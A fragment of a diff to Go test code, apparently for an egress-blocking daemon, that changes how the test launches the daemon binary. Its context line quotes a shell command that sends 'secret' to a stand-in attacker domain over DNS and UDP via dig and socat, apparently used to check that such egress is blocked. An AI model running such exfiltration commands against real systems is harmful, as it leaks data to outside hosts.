@@ -113,7 +113,7 @@ dig +time=1 +tries=1 @8.8.8.8 secret.evil.test; echo secret | socat -t1 - UDP:15
 	if names := d.world.zone.since(asked); len(names) > 0 {
 		t.Errorf("asked for %q", names)
 	}
-	d.run(t, exec.Command(os.Getenv(binaryVariable), "serve", "--config", d.config))
+	d.run(t, exec.Command(Egressd.Path(), "serve", "--config", d.config))
 }
 
 // goOn has the program that waits for a line go on, and returns what it prints, up to a line
